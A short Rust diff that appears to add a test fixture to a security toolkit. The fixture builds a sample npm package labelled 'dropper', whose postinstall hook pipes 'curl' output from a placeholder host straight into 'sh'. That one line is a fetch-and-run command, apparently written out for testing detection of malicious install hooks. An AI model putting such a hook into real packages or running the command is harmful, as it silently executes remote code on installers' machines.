@@ -218,3 +218,9 @@ impl Report {
 pub(crate) fn count(variable: &str, usually: usize) -> usize {
     std::env::var(variable).ok().map_or(usually, |text| text.parse().unwrap_or_else(|_| panic!("{variable} is `{text}`, not a number")))
 }
+
+/// An npm package that fetches a program when it is installed and runs it. Harmless: nothing here runs it, and the
+/// address is reserved for documentation.
+pub(crate) fn dropper(name: &str, version: &str) -> bifocal_testkit::NpmPackage {
+    bifocal_testkit::NpmPackage::new(name, version).script("postinstall", "curl -s https://files.example.com/i.sh | sh")
+}
